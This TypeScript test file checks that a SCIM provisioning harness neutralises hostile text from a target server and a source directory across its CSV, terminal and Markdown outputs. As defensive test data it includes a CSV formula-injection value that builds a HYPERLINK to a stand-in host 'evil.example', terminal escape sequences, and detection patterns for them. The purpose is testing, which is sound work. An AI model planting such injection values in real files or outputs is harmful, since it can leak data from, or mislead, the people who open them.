/**
 * A target whose ids, names and error details are built to run in a spreadsheet, a terminal and
 * a Markdown viewer (the hostile server's `hostile-text` pathology): every output people open
 * shows that text and never obeys it — every cell of every CSV file is neutralised, the `logs`
 * table, `logs --show`, `logs --summary`, `provision` and the console carry no raw ESC or C1
 * byte, and summary.md has no autolinkable target URL outside a code span.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { main } from '../../harness/cli/main';
import { type LogEntry } from '../../harness/contract/log-entry';
import { HOSTILE_TEXT_PAYLOADS, type HostileServer, startHostileServer } from '../helpers/hostile-server';
import { splitCodeSpans } from '../helpers/markdown-code-spans';
import { parseCsv } from '../unit/log/fixtures';
import { eventsOf, readRunRecords, runCli, type CliResult } from './support/run-cli';

/** ESC, every C1 control (0x9B is the 8-bit CSI), DEL, and every C0 control but line feed. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
/** What Excel and LibreOffice read as the start of a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** The console's own colours. */
// eslint-disable-next-line no-control-regex
const OWN_SGR = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;
const ROW_TIMEOUT_MS = 60_000;

let workDir: string;
let server: HostileServer;
let out: string;
let sync: CliResult;
let entries: LogEntry[];

/** A source directory whose own values are hostile too, the way a compromised HR feed would be. */
function writeSource(dir: string): { readonly file: string; readonly upn: string } {
  const upn = 'scimh-mallory@example.com';
  const users = [0, 1, 2, 3, 4].map((i) => ({
    objectId: `7f4bc1a3-0c1e-4f6a-9d2b-1a2b3c4d5e1${i}`,
    userPrincipalName: i === 0 ? upn : `scimh-user${i}@example.com`,
    mailNickname: `user${i}`,
    displayName: i % 2 === 0 ? `=\u001b]0;t\u0007HYPERLINK("http://evil.example/?u=${i}","x")` : `-2+3 User ${i}\u001b[1m\u009b2J`,
    givenName: `@Given${i}`,
    surname: `+Surname${i}`,
    accountEnabled: true,
  }));
  const file = path.join(dir, 'directory.json');
  writeFileSync(file, JSON.stringify({ users, groups: [], assignments: users.map((user) => user.objectId) }));
  return { file, upn };
}

/** `scim-harness <args>` with stdout a terminal (colour on) under CI (plain lines, no live bar). */
async function runCliOnTerminal(args: readonly string[]): Promise<CliResult> {
  const capture = (): { readonly stream: Writable & { isTTY: boolean; columns: number }; readonly text: () => string } => {
    let text = '';
    const stream = Object.assign(
      new Writable({
        write(chunk: Buffer | string, _encoding, done) {
          text += chunk.toString();
          done();
        },
      }),
      { isTTY: true, columns: 160 },
    );
    return { stream, text: () => text };
  };
  const stdout = capture();
  const stderr = capture();
  const code = await main(args, { stdout: stdout.stream, stderr: stderr.stream, env: { CI: 'true' } });
  return { code, stdout: stdout.text(), stderr: stderr.text() };
}

function csvFilesIn(dir: string): string[] {
  return readdirSync(dir)
    .filter((name) => name.endsWith('.csv'))
    .map((name) => path.join(dir, name));
}

function expectNeutralisedCsv(files: readonly string[]): void {
  expect(files).toHaveLength(3);
  const cells = files.flatMap((file) => parseCsv(readFileSync(file, 'utf8')).flat());
  for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
  // The target's id and the source's names arrived, neutralised, not dropped.
  expect(cells.some((cell) => cell.startsWith(`'${HOSTILE_TEXT_PAYLOADS.id}`))).toBe(true);
  expect(cells.some((cell) => cell.startsWith("'=\u001b]0;t\u0007HYPERLINK("))).toBe(true);
}

function expectNoRawControls(text: string): void {
  const at = text.search(RAW_CONTROL);
  if (at !== -1) throw new Error(`raw control character U+${text.charCodeAt(at).toString(16).padStart(4, '0')} at ${at}: ${JSON.stringify(text.slice(Math.max(0, at - 40), at + 40))}`);
}

beforeAll(async () => {
  workDir = mkdtempSync(path.join(tmpdir(), 'scim-harness-hostile-outputs-'));
  out = path.join(workDir, 'out');
  const source = writeSource(workDir);
  server = await startHostileServer({ pathology: 'hostile-text' });
  // A terminal under CI: colour on, no live bar, so the console's own colour codes must keep
  // working on the very lines that show the target's text.
  sync = await runCliOnTerminal(['sync', '--source', source.file, '--cycles', '1', '--target', server.baseUrl, '--token', 't', '--reporter', 'console,json,markdown,csv', '--out', out]);
  entries = eventsOf(readRunRecords(path.join(out, 'run.ndjson')), 'entry').map(({ entry }) => entry);
}, ROW_TIMEOUT_MS);

afterAll(async () => {
  await server?.close();
  rmSync(workDir, { recursive: true, force: true });
});

describe('a target sending formulas, escape sequences and URLs', () => {
  it('was really in the path: its id, its raw bytes and its error detail are in the log', () => {
    expect(entries.some((entry) => entry.targetIdentity.id.startsWith(HOSTILE_TEXT_PAYLOADS.id))).toBe(true);
    const reasons = entries.map((entry) => entry.provisioningStatusInfo.errorInformation?.reason ?? '');
    expect(reasons.some((reason) => reason.includes('\u001b]0;pwned\u0007'))).toBe(true);
    expect(reasons.some((reason) => reason.includes('http://evil.example/leak'))).toBe(true);
  });

  it("neutralises every cell of the csv reporter's three files", () => {
    expectNeutralisedCsv(csvFilesIn(out));
  });

  it('neutralises every cell of `logs --format csv`', async () => {
    const dir = path.join(workDir, 'logs-csv');
    const result = await runCli(['logs', out, '--format', 'csv', '--output', dir]);
    expect(result.code).toBe(0);
    expectNeutralisedCsv(csvFilesIn(dir));
  });

  it("prints no raw ESC or C1 byte on the console of the run but its own colours, and shows the target's lookalike of them", () => {
    expect(sync.stdout).toContain('failed:');
    expect(sync.stdout).toContain('\u001b[31m✗\u001b[39m');
    expect(sync.stdout).toContain("'-2+3 User 3\\u001B[1m\\u009B2J' failed");
    expectNoRawControls(sync.stdout.replace(OWN_SGR, ''));
    expectNoRawControls(sync.stderr);
  });

  it('prints no raw ESC or C1 byte in the `logs` table', async () => {
    const result = await runCli(['logs', out, '--columns', 'Target ID,Error Code']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('=\\u001B]0;t\\u0007HYP');
    expect(result.stdout).toContain('-2+3 User 1\\u001B[1m');
    expectNoRawControls(result.stdout);
  });

  it('prints no raw ESC or C1 byte in `logs --show`, for a created and for a failed entry', async () => {
    const created = entries.find((entry) => entry.targetIdentity.id.startsWith(HOSTILE_TEXT_PAYLOADS.id));
    const failed = entries.filter((entry) => entry.provisioningStatusInfo.status === 'failure');
    expect(created).toBeDefined();
    expect(failed.length).toBeGreaterThan(0);
    for (const entry of [created as LogEntry, ...failed]) {
      const result = await runCli(['logs', out, '--show', entry.changeId]);
      expect(result.code).toBe(0);
      expectNoRawControls(result.stdout);
    }
  });

  it('prints no raw ESC or C1 byte in `logs --summary`', async () => {
    const result = await runCli(['logs', out, '--summary', '--identity', 'HYPERLINK']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('=\\u001B]0;t\\u0007HYP');
    expectNoRawControls(result.stdout);
  });

  it('prints no raw ESC or C1 byte in `provision`, whose exchanges show the raw response', async () => {
    const target = await startHostileServer({ pathology: 'hostile-text' });
    try {
      const source = writeSource(workDir);
      const result = await runCli([
        'provision', '--source', source.file, '--user', source.upn, '--target', target.baseUrl, '--token', 't',
        '--reporter', 'json', '--out', path.join(workDir, 'provision'),
      ]);
      // The target's raw bytes were in the response the harness shows.
      expect(result.stdout).toContain('\\u001B]0;pwned\\u0007');
      expectNoRawControls(result.stdout);
      expectNoRawControls(result.stderr);
    } finally {
      await target.close();
    }
  });

  it('leaves no autolinkable target URL outside a code span in summary.md', () => {
    const markdown = readFileSync(path.join(out, 'summary.md'), 'utf8');
    expect(markdown).toContain('evil.example');
    expectNoRawControls(markdown);
    for (const line of markdown.split('\n')) {
      for (const text of splitCodeSpans(line).text) expect(text).not.toMatch(/evil\.example|:\/\/|www\./i);
    }
  });
});
